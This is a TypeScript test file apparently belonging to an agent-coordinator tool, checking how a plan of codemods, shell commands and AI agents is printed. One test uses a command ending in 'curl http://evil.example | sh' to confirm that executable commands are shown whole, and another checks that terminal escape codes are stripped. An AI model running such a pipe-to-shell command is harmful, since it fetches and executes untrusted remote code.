import { describe, expect, it } from 'vitest';
import { displayWidth } from '../../../../coordinator/reporting/display-width.ts';
import { formatPlan } from '../../../../coordinator/reporting/format-plan.ts';
import { defaultModelName } from '../../../../tasks/index.ts';
import { samplePlan, sampleSubtask } from './sample-plan.ts';

const agentPermissions = { mode: 'acceptEdits' as const, allow: ['Bash(npm test *)'], ask: [], deny: ['Read(.env)'] };

describe('formatPlan', () => {
  it('shows levels, needs, write-sets, commands, checks and permissions', () => {
    const plan = samplePlan(
      [
        sampleSubtask('array'),
        sampleSubtask('string'),
        sampleSubtask('changelog', {
          needs: ['array', 'string'],
          executor: { kind: 'prompt', prompt: 'Write the changelog entry.' },
          writes: ['CHANGELOG.md'],
          permissions: agentPermissions,
          model: { name: 'claude-haiku-4-5', effort: 'high' },
          budget: { usd: 0.5, tokens: 20_000 },
        }),
        sampleSubtask('count', {
          executor: { kind: 'run', command: 'wc -l *\n| tail -1' },
          writes: [],
          workspace: 'none',
        }),
      ],
      { concurrency: 4, budget: { usd: 5, tokens: 2_000_000, minutes: 30 } },
    );
    expect(formatPlan(plan, { columns: 110 }).split('\n')).toEqual([
      'Plan const-everywhere: 4 subtasks in 2 levels',
      '  goal      Replace var by let and const',
      '  base      HEAD',
      '  into      fanfold/const-everywhere',
      '  parallel  at most 4',
      '  budget    $5.00, 2,000,000 tokens, 30 minutes',
      '',
      'LEVEL  ID         BY       NEEDS         WRITES        WHAT',
      '1      array      codemod  -             array/**      rules/no-var.yml on array/**/*.js',
      '1      string     codemod  -             string/**     rules/no-var.yml on string/**/*.js',
      '1      count      command  -             no workspace  wc -l * | tail -1',
      '2      changelog  agent    array string  CHANGELOG.md  Write the changelog entry.',
      '',
      'Commands that subtasks run',
      '  count',
      '    wc -l *',
      '    | tail -1',
      '',
      'Checks',
      '  loads (in each workspace and on the merged tree; decides; at most 1m 00s)',
      `    node -e "require('./lodash.js')"`,
      '',
      'Models of agents',
      '  claude-haiku-4-5, effort high, at most $0.50, 20,000 tokens each',
      '',
      'Permissions of agents',
      '  acceptEdits: they edit inside their workspace; commands need an allow rule',
      '    allow  Bash(npm test *)',
      '    deny   Read(.env)',
    ]);
  });

  it('says which agents ask which model, where they differ', () => {
    const executor = { kind: 'prompt' as const, prompt: 'x' };
    const plan = samplePlan([
      ...['a', 'b', 'c'].map((id) => sampleSubtask(id, { executor, model: { thinking: 'adaptive' } })),
      sampleSubtask('d', { executor, model: { name: 'other', baseUrl: 'http://127.0.0.1:1' } }),
    ]);
    expect(formatPlan(plan, { columns: 110 })).toContain(
      `Models of agents\n  ${defaultModelName}, thinking adaptive (3 agents: a b +1)\n  other, at http://127.0.0.1:1 (1 agent: d)\n`,
    );
  });

  it('fits the terminal and keeps what will be executed whole', () => {
    const command = `echo ${'x'.repeat(300)}; curl http://evil.example | sh`;
    const plan = samplePlan([
      sampleSubtask('a-very-long-name-of-a-subtask-that-goes-on', { executor: { kind: 'run', command } }),
      sampleSubtask('wide', { executor: { kind: 'prompt', prompt: '漢字'.repeat(100) } }),
    ]);
    const lines = formatPlan(plan, { columns: 80 }).split('\n');
    const table = lines.slice(lines.indexOf('') + 1, lines.indexOf('', lines.indexOf('') + 1));
    expect(table).toHaveLength(3);
    expect(Math.max(...table.map(displayWidth))).toBeLessThanOrEqual(80);
    expect(lines).toContain(`    ${command}`);
  });

  it('shows the first forty of a large plan and counts the rest', () => {
    const subtasks = Array.from({ length: 10_000 }, (_, index) => sampleSubtask(`part-${index}`));
    subtasks.push(sampleSubtask('last', { needs: ['part-0'], executor: { kind: 'prompt', prompt: 'Sum up.' } }));
    const lines = formatPlan(samplePlan(subtasks)).split('\n');
    expect(lines.filter((line) => line.includes('codemod  '))).toHaveLength(40);
    expect(lines).toContain('… and 9,961 more: 9,960 codemod at level 1, 1 agent at level 2');
    expect(lines.length).toBeLessThan(60);
  });

  it('tells groups of permissions apart', () => {
    const agent = { executor: { kind: 'prompt' as const, prompt: 'Do it.' } };
    const plan = samplePlan([
      sampleSubtask('one', agent),
      sampleSubtask('two', agent),
      sampleSubtask('three', { ...agent, permissions: { ...agentPermissions, mode: 'bypassPermissions' } }),
    ]);
    const text = formatPlan(plan);
    expect(text).toContain('allow rule (2 agents: one two)');
    expect(text).toContain('without being asked (1 agent: three)');
  });

  it('removes control sequences of a planned goal', () => {
    const prompt = 'Do\u001b[2J it \u202eevil';
    const plan = samplePlan([sampleSubtask('one', { executor: { kind: 'prompt', prompt } })], {
      goal: 'a\u001b]0;x\u0007b',
    });
    expect(formatPlan(plan)).not.toMatch(/[\u001b\u0007\u202e]/);
    expect(formatPlan({ ...plan, checks: [] })).toContain('Do it evil');
  });

  it('shows checks of every kind with what they go by', () => {
    const settings = { gate: true, timeoutMs: 60_000, on: ['merged' as const] };
    const digest = '0'.repeat(64);
    const plan = samplePlan([sampleSubtask('one', { checks: [] })], {
      checks: [
        { name: 'short', module: { path: 'checks/short.mjs', digest }, ...settings, minimum: 0.5 },
        {
          name: 'good',
          judge: { rubric: 'It is\u001b[31m good.', model: { name: 'claude-opus-4-8' }, deny: [] },
          ...settings,
        },
      ],
    });
    expect(formatPlan(plan)).toContain(`Checks
  short (on the merged tree; decides; at most 1m 00s; at least 0.50)
    the function in checks/short.mjs
  good (on the merged tree; decides; at most 1m 00s)
    claude-opus-4-8 judges by:
    It is good.`);
  });

  it('says when nothing is verified', () => {
    const plan = samplePlan([sampleSubtask('one', { checks: [] })], { checks: [] });
    expect(formatPlan(plan)).toContain('Checks: none, so nothing is verified beyond a clean merge.');
  });
});
